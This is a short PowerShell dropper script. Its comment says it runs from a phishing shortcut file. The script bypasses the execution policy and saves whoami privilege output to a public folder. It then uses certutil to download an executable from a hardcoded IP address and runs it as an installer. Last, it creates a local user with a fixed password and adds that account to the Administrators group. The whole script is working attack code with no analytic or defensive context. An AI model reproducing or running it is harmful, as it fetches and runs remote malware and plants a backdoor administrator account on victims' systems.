# dropper for the loader; run from the phishing LNK
Set-ExecutionPolicy -Scope Process -ExecutionPolicy Bypass -Force
whoami.exe /all | Out-File -FilePath C:\Users\Public\Music\w.txt
$drop = 'C:\Users\Public\Music\msupd.exe'
certutil.exe -urlcache -split -f http://45.137.21.9/files/msupd.exe $drop
if (Test-Path -Path $drop) {
    & $drop -install
}
net user svc_backup Backup#2024x /add /y
net localgroup Administrators svc_backup /add
